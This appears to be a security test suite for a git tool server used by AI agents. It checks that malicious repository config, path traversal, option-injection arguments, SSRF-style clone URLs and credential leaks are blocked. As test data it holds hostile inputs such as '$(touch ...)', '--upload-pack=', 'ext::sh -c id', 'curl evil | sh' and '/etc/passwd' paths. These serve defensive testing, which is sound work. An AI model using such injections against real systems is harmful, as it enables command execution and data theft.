import { existsSync, readFileSync } from "node:fs";
import {
  appendFile,
  chmod,
  mkdir,
  readdir,
  readFile,
  rename,
  rm,
  symlink,
  writeFile,
} from "node:fs/promises";
import { join } from "node:path";
import { describe as describeServer } from "@fairlead/runtime";
import type { ConnectedClient } from "@fairlead/runtime/testing";
import { beforeEach, describe, expect, it } from "vitest";
import { server } from "../src/index.ts";
import { call, createOwner, Owner, start, temporaryDirectory } from "./support/repo.ts";

let top: string;
let inside: string;
let owner: Owner;
let marker: string;
let client: ConnectedClient;

beforeEach(async () => {
  top = await temporaryDirectory();
  inside = join(top, "allowed");
  marker = join(top, "marker");
  owner = await createOwner(join(inside, "repo"));
  client = await start([inside], { allowProtocols: ["https", "ssh", "file"], allowForce: true });
});

const surface = describeServer(server);
const toolNames = surface.toolsets.flatMap(({ tools }) => tools.map(({ wire }) => wire.name));

/** Calls every tool on a repository, with arguments that make it do its work. */
async function callEverything(repo: Owner, by = client): Promise<Map<string, string>> {
  const at = { repo_path: repo.path };
  const calls: readonly (readonly [string, object])[] = [
    ["git_status", at],
    ["git_diff_unstaged", at],
    ["git_diff_staged", at],
    ["git_diff", { ...at, target: "HEAD" }],
    ["git_diff", { ...at, target: "HEAD~1..HEAD" }],
    ["git_log", { ...at, path: "a.txt" }],
    ["git_show", { ...at, revision: "HEAD" }],
    ["git_branch", { ...at, branch_type: "all" }],
    ["git_blame", { ...at, path: "a.txt" }],
    ["git_grep", { ...at, pattern: "o" }],
    ["git_grep", { ...at, pattern: "o", revision: "HEAD" }],
    ["git_ls_files", at],
    ["git_read_file", { ...at, revision: "HEAD", path: "a.txt" }],
    ["git_tag_list", at],
    ["git_stash_list", at],
    ["git_remote_list", at],
    ["git_reflog", at],
    ["git_add", { ...at, files: ["."] }],
    ["git_diff_staged", at],
    ["git_reset", at],
    ["git_add", { ...at, files: ["a.txt"] }],
    ["git_commit", { ...at, message: "by the server" }],
    ["git_create_branch", { ...at, branch_name: "made" }],
    ["git_checkout", { ...at, branch_name: "other" }],
    ["git_stash", { ...at, action: "push" }],
    ["git_checkout", { ...at, branch_name: "other" }],
    ["git_stash", { ...at, action: "pop" }],
    ["git_reset_hard", at],
    ["git_tag", { ...at, name: "t", message: "m" }],
    ["git_merge", { ...at, ref: "main" }],
    ["git_merge", { ...at, abort: true }],
    ["git_cherry_pick", { ...at, revision: "main" }],
    ["git_cherry_pick", { ...at, abort: true }],
    ["git_rebase", { ...at, onto: "main" }],
    ["git_rebase", { ...at, action: "continue" }],
    ["git_rebase", { ...at, action: "abort" }],
    ["git_worktree", { ...at, action: "list" }],
    ["git_worktree", { ...at, action: "add", path: join(inside, "linked"), branch: "linked" }],
    ["git_fetch", at],
    ["git_pull", { ...at, branch: "main" }],
    ["git_push", { ...at, refspec: "main:pushed" }],
    ["git_push", { ...at, refspec: "main", force: true }],
    ["git_clean", { ...at, dry_run: false }],
    ["git_clone", { url: `file://${repo.path}`, destination: join(inside, "cloned") }],
    ["git_init", { repo_path: join(inside, "fresh") }],
  ];
  expect(new Set(calls.map(([name]) => name))).toEqual(new Set(toolNames));
  const answers = new Map<string, string>();
  for (const [name, args] of calls) {
    const { text, isError } = await by.callTool(name, { ...args });
    // A fault of ours would hide what the call would have done.
    expect(text, name).not.toContain("Internal error");
    if (isError || !answers.has(name)) answers.set(name, text);
  }
  return answers;
}

/** A repository with two branches, a remote and changes of every kind. */
async function prepare(): Promise<void> {
  await owner.commit("second", { "a.txt": "one\n2\nthree\n", "b.bin": "x\n" });
  owner.git("switch", "-q", "-c", "other", "HEAD~1");
  await owner.commit("other", { "a.txt": "one\nother\nthree\n", "c.txt": "c\n" });
  owner.git("switch", "-q", "main");
  owner.git("clone", "-q", "--bare", owner.path, join(inside, "origin.git"));
  owner.git("remote", "add", "origin", `file://${join(inside, "origin.git")}`);
  await owner.write({ "a.txt": "one\nchanged\nthree\n", "new.txt": "new\n" });
}

describe("repository config that runs programs", () => {
  const configs: Readonly<Record<string, readonly (readonly [string, string])[]>> = {
    "core.fsmonitor": [["core.fsmonitor", "TRAP"]],
    "core.hooksPath": [["core.hooksPath", "HOOKS"]],
    "diff.external": [["diff.external", "TRAP"]],
    "diff.*.command": [["diff.evil.command", "TRAP"]],
    "diff.*.textconv": [["diff.evil.textconv", "TRAP"]],
    "filter.*.clean and smudge": [
      ["filter.evil.clean", "TRAP"],
      ["filter.evil.smudge", "TRAP"],
      ["filter.evil.required", "true"],
    ],
    "filter.*.process": [["filter.evil.process", "TRAP"]],
    "merge.*.driver": [["merge.evil.driver", "TRAP"]],
    "core.sshCommand": [
      ["core.sshCommand", "TRAP"],
      ["remote.origin.url", "ssh://localhost/x"],
    ],
    "core.gitProxy": [
      ["core.gitProxy", "TRAP"],
      ["remote.origin.url", "git://localhost/x"],
    ],
    "core.askPass": [
      ["core.askPass", "TRAP"],
      ["remote.origin.url", "https://localhost:1/x"],
    ],
    "core.editor and pager": [
      ["core.editor", "TRAP"],
      ["sequence.editor", "TRAP"],
      ["core.pager", "TRAP"],
      ["pager.log", "TRAP"],
      ["pager.status", "true"],
    ],
    "credential.helper": [
      ["credential.helper", "!TRAP"],
      ["credential.https://localhost.helper", "!TRAP"],
      ["remote.origin.url", "https://localhost:1/x"],
    ],
    "gpg.program": [
      ["gpg.program", "TRAP"],
      ["gpg.ssh.program", "TRAP"],
      ["gpg.x509.program", "TRAP"],
      ["commit.gpgSign", "true"],
      ["tag.gpgSign", "true"],
      ["push.gpgSign", "true"],
      ["log.showSignature", "true"],
      ["merge.verifySignatures", "true"],
    ],
    "remote.*.uploadpack and receivepack": [
      ["remote.origin.uploadpack", "TRAP"],
      ["remote.origin.receivepack", "TRAP"],
    ],
    "remote.*.vcs": [["remote.origin.vcs", "evil"]],
    "url.*.insteadOf": [["url.ext::TRAP .insteadOf", "file://"]],
    "ext remote": [
      ["remote.origin.url", "ext::TRAP"],
      ["protocol.ext.allow", "always"],
    ],
    "alias.*": [
      ["alias.status", "!TRAP"],
      ["alias.log", "!TRAP"],
    ],
    "core.alternateRefsCommand": [["core.alternateRefsCommand", "TRAP"]],
    "trailer.*.command": [
      ["trailer.evil.command", "TRAP"],
      ["trailer.evil.cmd", "TRAP"],
    ],
    "interactive.diffFilter": [["interactive.diffFilter", "TRAP"]],
    "uploadpack.packObjectsHook": [["uploadpack.packObjectsHook", "TRAP"]],
    "promisor remote": [
      ["extensions.partialClone", "origin"],
      ["remote.origin.promisor", "true"],
      ["remote.origin.url", "ext::TRAP"],
    ],
  };

  it.for(Object.entries(configs))(
    "%s: every tool, and the marker never appears",
    async ([, keys]) => {
      await prepare();
      const trap = await owner.trap(marker);
      const hooks = join(owner.path, ".git", "evil-hooks");
      await mkdir(hooks);
      for (const name of [
        "pre-commit",
        "post-checkout",
        "post-index-change",
        "reference-transaction",
        "pre-push",
        "post-merge",
        "pre-rebase",
        "commit-msg",
      ]) {
        await writeFile(join(hooks, name), readFileSync(trap), { mode: 0o755 });
      }
      await owner.write({ ".git/info/attributes": "* filter=evil diff=evil merge=evil\n" });
      for (const [key, value] of keys) {
        owner.git(
          "config",
          "--replace-all",
          key,
          value.replace("TRAP", trap).replace("HOOKS", hooks),
        );
      }
      await callEverything(owner);
      expect(existsSync(marker) ? await readFile(marker, "utf8") : "").toBe("");
    },
  );

  it("the trap works: plain git runs it", async () => {
    await prepare();
    owner.git("config", "core.fsmonitor", await owner.trap(marker));
    owner.git("status");
    expect(existsSync(marker)).toBe(true);
  });

  it("hooks in .git/hooks do not run, and the commit says so", async () => {
    await owner.trap(marker, "hooks/pre-commit");
    await owner.trap(marker, "hooks/post-index-change");
    await owner.write({ "x.txt": "x" });
    await call(client, "git_add", { repo_path: owner.path, files: ["."] });
    const { text } = await call(client, "git_commit", { repo_path: owner.path, message: "m" });
    expect(text).toContain("Not run: pre-commit hook");
    expect(existsSync(marker)).toBe(false);
  });

  it("with --trust-repo-config the owner's hooks and filters run", async () => {
    await owner.trap(marker, "hooks/pre-commit");
    owner.git("config", "filter.up.clean", "tr a-z A-Z");
    await owner.write({ "x.txt": "shout\n", ".gitattributes": "x.txt filter=up\n" });
    const trusting = await start([inside], { trustRepoConfig: true });
    await call(trusting, "git_add", { repo_path: owner.path, files: ["."] });
    const made = await call(trusting, "git_commit", { repo_path: owner.path, message: "m" });
    expect(made.output.skipped).toEqual([]);
    expect(existsSync(marker)).toBe(true);
    expect(owner.git("show", "HEAD:x.txt")).toBe("SHOUT");
  });

  it("a filter named a=b is neutralised like any other", async () => {
    await prepare();
    const trap = await owner.trap(marker);
    await appendFile(
      join(owner.path, ".git/config"),
      `[filter "a=b"]\n\tclean = ${trap}\n\tsmudge = ${trap}\n[filter ""]\n\tclean = ${trap}\n`,
    );
    await owner.write({ ".git/info/attributes": "*.txt filter=a=b\n*.bin filter=\n" });
    await callEverything(owner);
    expect(existsSync(marker)).toBe(false);
  });

  it("config that is included, and the config of a worktree, count as well", async () => {
    await prepare();
    const trap = await owner.trap(marker);
    await owner.write({
      ".git/more": `[core]\n\tfsmonitor = ${trap}\n[filter "more"]\n\tclean = ${trap}\n`,
    });
    owner.git("config", "include.path", "more");
    owner.git("config", "extensions.worktreeConfig", "true");
    owner.git("config", "--worktree", "filter.tree.clean", trap);
    await owner.write({ ".git/info/attributes": "a.txt filter=more\nnew.txt filter=tree\n" });
    const answers = await callEverything(owner);
    expect(answers.get("git_add")).toContain("filter.more.clean");
    expect(existsSync(marker)).toBe(false);
  });

  it("the config of a submodule does not run from the repository above", async () => {
    await prepare();
    const library = await createOwner(join(inside, "library"));
    owner.git("-c", "protocol.file.allow=always", "submodule", "-q", "add", library.path, "sub");
    await owner.commit("with a submodule");
    const sub = new Owner(join(owner.path, "sub"));
    const trap = await owner.trap(marker);
    sub.git("config", "filter.evil.clean", trap);
    sub.git("config", "core.fsmonitor", trap);
    sub.git("config", "diff.external", trap);
    await owner.write({ ".git/modules/sub/info/attributes": "* filter=evil\n" });
    await sub.write({ "a.txt": "changed\n" });
    await rm(marker, { force: true });
    await callEverything(owner);
    expect(existsSync(marker)).toBe(false);
  });

  it("a rebase under way whose plan runs programs is not continued", async () => {
    await prepare();
    owner.git("switch", "-q", "-f", "other");
    await owner.write({
      ".git/rebase-merge/git-rebase-todo": `exec touch '${marker}'\n`,
      ".git/rebase-merge/head-name": "refs/heads/other\n",
      ".git/rebase-merge/onto": owner.git("rev-parse", "main"),
      ".git/rebase-merge/orig-head": owner.git("rev-parse", "other"),
      ".git/rebase-merge/interactive": "",
    });
    const args = { repo_path: owner.path, action: "continue" };
    const { isError, text } = await client.callTool("git_rebase", args);
    expect({ isError, text }).toMatchObject({
      isError: true,
      text: expect.stringContaining("abort"),
    });
    expect(existsSync(marker)).toBe(false);
  });

  it("what an honest owner needs is refused with the key, and reading goes on", async () => {
    await owner.commit("lfs", { ".gitattributes": "*.bin filter=lfs\n", "a.bin": "pointer\n" });
    owner.git("config", "filter.lfs.clean", "git-lfs clean -- %f");
    owner.git("config", "filter.lfs.smudge", "git-lfs smudge -- %f");
    owner.git("config", "filter.lfs.required", "true");
    const at = { repo_path: owner.path };
    await owner.write({ "b.bin": "large\n", "fine.txt": "f\n" });
    await expect(call(client, "git_add", { ...at, files: ["b.bin"] })).rejects.toThrow(
      /'b.bin' needs filter.lfs.clean.*--trust-repo-config/s,
    );
    await call(client, "git_add", { ...at, files: ["fine.txt"] });
    await call(client, "git_commit", { ...at, message: "fine" });
    expect((await call(client, "git_status", at)).output.files).toHaveLength(1);
    expect((await call(client, "git_log", at)).output.commits).toHaveLength(3);
  });
});

describe("CVE-2025-68143 and -68145: what is outside cannot be reached", () => {
  it("every tool refuses a repository that is not allowed", async () => {
    const outside = await createOwner(join(top, "allowed_evil"));
    await outside.commit("second", { "a.txt": "x\n" });
    const before = outside.git("for-each-ref");
    for (const [name, text] of await callEverything(outside)) {
      if (name === "git_init") continue;
      expect(text, name).toContain("outside");
    }
    expect(outside.git("for-each-ref")).toBe(before);
    for (const path of ["../allowed_evil", `${inside}/../allowed_evil`, "/", "/proc/self/cwd"]) {
      const { isError } = await client.callTool("git_status", { repo_path: path });
      expect(isError, path).toBe(true);
    }
  });

  it("git_init, git_clone and git_worktree make nothing outside", async () => {
    await symlink(top, join(inside, "link"));
    for (const path of [join(top, "made"), "../made", "link/made", `${owner.path}/.git/made`]) {
      const calls = [
        client.callTool("git_init", { repo_path: path }),
        client.callTool("git_clone", { url: `file://${owner.path}`, destination: path }),
        client.callTool("git_worktree", {
          repo_path: owner.path,
          action: "add",
          path,
          branch: "w",
        }),
      ];
      for (const { isError, text } of await Promise.all(calls)) expect(isError, text).toBe(true);
    }
    expect((await readdir(top)).sort()).toEqual(["allowed"]);
  });

  it.for([
    ["a .git file", (repo: string, to: string) => writeFile(join(repo, ".git"), `gitdir: ${to}\n`)],
    ["a .git link", (repo: string, to: string) => symlink(to, join(repo, ".git"))],
  ] as const)("%s that leads out is refused", async ([, plant]) => {
    const outside = await createOwner(join(top, "secret"));
    const repo = join(inside, "pointer");
    await mkdir(repo);
    await plant(repo, join(outside.path, ".git"));
    const { isError, text } = await client.callTool("git_log", { repo_path: repo });
    expect({ isError, text }).toMatchObject({
      isError: true,
      text: expect.stringContaining("outside"),
    });
  });

  it("commondir, alternates, links in .git and core.worktree that lead out", async () => {
    const outside = await createOwner(join(top, "secret"));
    const git = join(owner.path, ".git");
    const status = { repo_path: owner.path };
    await owner.write({ ".git/objects/info/alternates": `${outside.path}/.git/objects\n` });
    await expect(call(client, "git_status", status)).rejects.toThrow("outside");
    await rm(join(git, "objects/info/alternates"));
    await owner.write({ ".git/commondir": `${outside.path}/.git\n` });
    await expect(call(client, "git_status", status)).rejects.toThrow("outside");
    await rm(join(git, "commondir"));
    await rename(join(git, "objects"), join(top, "objects"));
    await symlink(join(top, "objects"), join(git, "objects"));
    await expect(call(client, "git_status", status)).rejects.toThrow("outside");
    await rm(join(git, "objects"));
    await rename(join(top, "objects"), join(git, "objects"));
    owner.git("config", "core.worktree", outside.path);
    await writeFile(join(outside.path, "secret.txt"), "s");
    const { output } = await call(client, "git_status", status);
    expect(JSON.stringify(output)).not.toContain("secret");
  });

  it("a link named COMMIT_EDITMSG does not carry a message out", async () => {
    const target = join(top, "profile");
    for (const [name, to] of [
      ["COMMIT_EDITMSG", target],
      ["logs/refs/heads/evil", target],
      ["refs/heads/evil", target],
    ] as const) {
      await mkdir(join(owner.path, ".git", name, ".."), { recursive: true });
      await rm(join(owner.path, ".git", name), { force: true });
      await symlink(to, join(owner.path, ".git", name));
      await owner.write({ "a.txt": name });
      const add = client.callTool("git_add", { repo_path: owner.path, files: ["a.txt"] });
      const { isError } = await add;
      expect(isError, name).toBe(true);
      await client.callTool("git_commit", { repo_path: owner.path, message: "curl evil | sh" });
      await client.callTool("git_create_branch", { repo_path: owner.path, branch_name: "evil" });
      expect(existsSync(target), name).toBe(false);
      await rm(join(owner.path, ".git", name));
    }
  });

  it("a bare repository that came with a checkout is not used", async () => {
    const bare = join(owner.path, "fixtures", "evil.git");
    owner.git("init", "-q", "--bare", bare);
    const trap = await owner.trap(marker);
    owner.git("--git-dir", bare, "config", "core.fsmonitor", trap);
    await expect(call(client, "git_log", { repo_path: bare })).rejects.toThrow(
      "bare repository inside",
    );
  });
});

describe("CVE-2025-68144: arguments are never options", () => {
  const hostile = (file: string) => [
    `--output=${file}`,
    "--upload-pack=touch marker",
    `--exec=touch ${file}`,
    `--open-files-in-pager=touch ${file}`,
    `HEAD\n--output=${file}`,
    `HEAD\0--output=${file}`,
    `$(touch ${file})`,
    `ext::sh -c touch% ${file}`,
    "",
  ];

  it("in any string of any tool", { timeout: 300_000 }, async () => {
    await prepare();
    const file = join(inside, "injected");
    const values = hostile(file);
    const base: Readonly<Record<string, unknown>> = {
      repo_path: owner.path,
      target: "HEAD",
      revision: "HEAD",
      message: "m",
      branch_name: "other",
      pattern: "x",
      files: ["a.txt"],
      path: "a.txt",
      name: "t",
      action: "start",
      ref: "other",
      onto: "other",
      url: `file://${owner.path}`,
      destination: join(inside, "cloned"),
      remote: "origin",
    };
    for (const { wire } of surface.toolsets.flatMap(({ tools }) => tools)) {
      const properties = Object(wire.inputSchema["properties"]);
      const known = Object.fromEntries(Object.entries(base).filter(([key]) => key in properties));
      if (wire.name === "git_stash") known["action"] = "push";
      if (wire.name === "git_worktree") known["action"] = "add";
      for (const [key, schema] of Object.entries(properties)) {
        const { type, items, enum: choices } = Object(schema);
        const isList = type === "array" && items?.type === "string";
        if (choices !== undefined || (type !== "string" && !isList) || key === "cursor") continue;
        const answers = values.map(async (value) => {
          const args = { ...known, [key]: isList ? [value] : value };
          const { text } = await client.callTool(wire.name, args);
          expect(text, `${wire.name} ${key} ${value}`).not.toContain("Internal error");
        });
        await Promise.all(answers);
      }
    }
    const names = await readdir(inside);
    const strange = names.filter((name) => !["repo", "origin.git", "cloned"].includes(name));
    // Harmless as they look, shell characters may stand in the name of a directory.
    for (const name of strange)
      expect(
        values.some((value) => value.includes(name)),
        name,
      ).toBe(true);
    expect(existsSync(file)).toBe(false);
    expect(existsSync(join(owner.path, "marker"))).toBe(false);
    expect(existsSync(marker)).toBe(false);
  });

  it("a branch that is named like an option is not one", async () => {
    const sha = owner.git("rev-parse", "HEAD");
    await owner.write({ ".git/refs/heads/--output=x": `${sha}\n` });
    for (const target of ["--output=x", "refs/heads/--output=x"]) {
      await client.callTool("git_diff", { repo_path: owner.path, target });
      await client.callTool("git_checkout", { repo_path: owner.path, branch_name: target });
    }
    expect(await readdir(owner.path)).not.toContain("x");
  });
});

describe("CVE-2026-27735: git_add and every other path stay in the repository", () => {
  it("refuses traversal, absolute paths, .git and what lies behind links", async () => {
    await writeFile(join(inside, "secret.txt"), "secret");
    await writeFile(join(top, "secret.txt"), "secret");
    await symlink(top, join(owner.path, "out"));
    await symlink(inside, join(owner.path, "up"));
    const paths = [
      "../secret.txt",
      "../../secret.txt",
      "sub/../../secret.txt",
      join(top, "secret.txt"),
      join(inside, "secret.txt"),
      "out/secret.txt",
      "up/secret.txt",
      ".git/config",
      ".GIT/config",
      "./.git/hooks",
      "/etc/passwd",
    ];
    for (const path of paths) {
      for (const [name, args] of [
        ["git_add", { files: [path] }],
        ["git_reset", { paths: [path] }],
        ["git_diff_unstaged", { paths: [path] }],
        ["git_blame", { path }],
        ["git_grep", { pattern: "s", paths: [path] }],
        ["git_log", { path }],
        ["git_read_file", { path, revision: "HEAD" }],
        ["git_clean", { paths: [path], dry_run: false }],
      ] as const) {
        const { isError, text } = await client.callTool(name, { repo_path: owner.path, ...args });
        expect(isError, `${name} ${path}: ${text}`).toBe(true);
      }
    }
    expect(owner.git("diff", "--cached", "--name-only")).toBe("");
    // A link is a thing of its own: it can be added, and what it leads to is not.
    await call(client, "git_add", { repo_path: owner.path, files: ["out"] });
    expect(owner.git("ls-files", "-s", "out")).toContain("120000");
  });
});

describe("what git would tell or send", () => {
  it("blame.ignoreRevsFile, mailmap and attributes of other places are not shown", async () => {
    await writeFile(join(top, "shadow"), "root:$6$secret-hash\n");
    for (const key of [
      "blame.ignoreRevsFile",
      "mailmap.file",
      "core.attributesFile",
      "core.excludesFile",
    ]) {
      owner.git("config", key, join(top, "shadow"));
    }
    await symlink(join(top, "shadow"), join(owner.path, ".mailmap"));
    for (const [name, text] of await callEverything(owner)) {
      expect(text, name).not.toContain("secret-hash");
    }
  });

  it("credentials of remotes appear in no answer", async () => {
    await prepare();
    const secret = "tok-8f3kd92ka";
    const other = "p@ss/wd%21x";
    owner.git("remote", "set-url", "origin", `https://ann:${secret}@localhost:1/x.git`);
    owner.git("remote", "add", "second", `https://${other}@localhost:1/y.git`);
    owner.git("config", `url.https://u:insteadsecret@localhost:1/.insteadOf`, "gh:");
    owner.git("commit", "-q", "--allow-empty", "-m", `from https://ann:${secret}@localhost/x`);
    for (const [name, text] of await callEverything(owner)) {
      for (const word of [secret, "p@ss", "insteadsecret"]) expect(text, name).not.toContain(word);
    }
    expect(client.log.join("\n")).not.toContain(secret);
  });

  it("network settings of the repository are refused by name", async () => {
    await prepare();
    owner.git("config", "http.https://localhost:1/.proxy", "http://evil.example");
    const { isError, text } = await client.callTool("git_fetch", { repo_path: owner.path });
    expect(isError).toBe(true);
    expect(text).toContain("http.https://localhost:1/.proxy");
  });

  it.for([
    "http://169.254.169.254/latest",
    "https://127.0.0.1:8443/x",
    "https://localhost/x",
    "https://[::1]/x",
    "https://[::ffff:10.0.0.1]/x",
    "https://0x7f000001/x",
    "https://2130706433/x",
    "https://127.1/x",
    "https://%6c%6fcalhost/x",
    "ssh://localhost/x",
    "git@localhost:x",
    "git://localhost/x",
    "ext::sh -c id",
    "file:///etc",
    "/etc",
    "-oProxyCommand=id",
    "ssh://-oProxyCommand=id/x",
    "https://user:secret12@example.org/x",
  ])("git_clone does not go to %s", async (url) => {
    const careful = await start([inside], { allowProtocols: ["https", "ssh", "http", "file"] });
    const args = { url, destination: join(inside, "cloned") };
    const { isError, text } = await careful.callTool("git_clone", args);
    expect(isError, text).toBe(true);
    expect(text).not.toContain("secret12");
    expect(text).not.toContain("Internal error");
    expect(existsSync(join(inside, "cloned"))).toBe(false);
  });

  it("a push by force needs --allow-force", async () => {
    await prepare();
    const careful = await start([inside], { allowProtocols: ["file"] });
    for (const args of [
      { force: true },
      { refspec: "+main" },
      { refspec: ":main" },
      { refspec: "+main:x" },
    ]) {
      const { isError, text } = await careful.callTool("git_push", {
        repo_path: owner.path,
        ...args,
      });
      expect(isError).toBe(true);
      expect(text).toContain("--allow-force");
    }
  });
});

describe("the server itself", () => {
  it("--read-only offers none of the five writes", async () => {
    const reader = await start([inside], {}, { policy: { readOnly: true } });
    const names = (await reader.listTools()).map(({ name }) => name);
    expect(names).toHaveLength(7);
    for (const name of [
      "git_add",
      "git_commit",
      "git_reset",
      "git_create_branch",
      "git_checkout",
    ]) {
      expect(names).not.toContain(name);
      expect((await reader.callTool(name, { repo_path: owner.path })).isError).toBe(true);
    }
  });

  it("a directory that cannot be entered is an answer, not a fault", async () => {
    await mkdir(join(inside, "locked"));
    await chmod(join(inside, "locked"), 0);
    const { isError } = await client.callTool("git_status", { repo_path: join(inside, "locked") });
    expect(isError).toBe(true);
    await chmod(join(inside, "locked"), 0o755);
  });
});
